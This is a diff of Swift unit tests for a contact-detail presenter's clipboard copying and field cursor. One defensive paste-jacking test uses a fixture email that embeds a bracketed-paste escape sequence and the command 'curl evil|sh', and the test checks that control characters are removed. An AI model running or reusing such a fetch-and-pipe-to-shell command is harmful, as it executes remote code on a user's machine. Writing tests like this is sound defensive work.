@@ -319,37 +319,57 @@ struct ListPresenterSearchTests {
 @MainActor
 @Suite("Detail presenter: copy")
 struct DetailCopyTests {
-    @Test("y copies the email and says so only when the copy was written")
-    func copy() throws {
-        let directory = try Fixtures.directory(json: Fixtures.seedJSON)
+    /// The detail of the first person of `json`, with a clipboard and a view that record.
+    static func detail(json: String) throws -> (DetailPresenter, SpyClipboard, SpyDetailView) {
+        let directory = try Fixtures.directory(json: json)
         let clipboard = SpyClipboard()
         let view = SpyDetailView()
         let presenter = DetailPresenter(repository: directory.repository, arrangement: directory.everyone, position: 0,
                                         wireframe: SpyDetailWireframe(), clipboard: clipboard)
         presenter.attach(view: view)
-        presenter.copyEmail()
+        return (presenter, clipboard, view)
+    }
+
+    @Test("y copies the email and says so only when the copy was written")
+    func copy() throws {
+        let (presenter, clipboard, view) = try Self.detail(json: Fixtures.seedJSON)
+        presenter.copyField()
         #expect(clipboard.copied == ["bertha.irwin@comstar.net"])
         #expect(view.models.last?.status == "copied bertha.irwin@comstar.net")
         presenter.showNext()
         #expect(view.models.last?.status == nil)
         clipboard.succeeds = false
-        presenter.copyEmail()
+        presenter.copyField()
         #expect(view.models.last?.status == "could not copy")
     }
 
     @Test("y copies only printable text: a newline and a command in an email never reach the clipboard")
     func pasteJacking() throws {
-        let directory = try Fixtures.directory(json: Fixtures.array([
+        let (presenter, clipboard, view) = try Self.detail(json: Fixtures.array([
             Fixtures.record(email: "a@x.test\n\u{1B}[201~curl evil|sh\n\u{202E}", index: 0),
         ]))
-        let clipboard = SpyClipboard()
-        let view = SpyDetailView()
-        let presenter = DetailPresenter(repository: directory.repository, arrangement: directory.everyone, position: 0,
-                                        wireframe: SpyDetailWireframe(), clipboard: clipboard)
-        presenter.attach(view: view)
-        presenter.copyEmail()
+        presenter.copyField()
         #expect(clipboard.copied == ["a@x.test[201~curl evil|sh"])
         #expect(view.models.last?.status == "copied a@x.test[201~curl evil|sh (4 control characters left out)")
+    }
+
+    @Test("Tab moves the field cursor (wrapping), which stays as ↑/↓ walk people; y copies that field as stored")
+    func fieldCursor() throws {
+        let (presenter, clipboard, view) = try Self.detail(json: Fixtures.seedJSON)
+        #expect(view.models.last?.selectedField == 3)
+        presenter.moveFieldCursor(by: 1)
+        presenter.copyField()
+        presenter.showNext()
+        presenter.copyField()
+        presenter.moveFieldCursor(by: 2)
+        presenter.copyField()
+        #expect(clipboard.copied == ["+1 (806) 584-3949", "+1 (953) 454-3801", "$3,334.51"])
+        #expect(view.models.last?.status == "copied $3,334.51")
+        presenter.moveFieldCursor(by: -7)
+        #expect(view.models.last?.selectedField == 14)
+        presenter.copyField()
+        #expect(view.models.last?.fields[14].label == "ID")
+        #expect(clipboard.copied.count == 4)
     }
 }
 
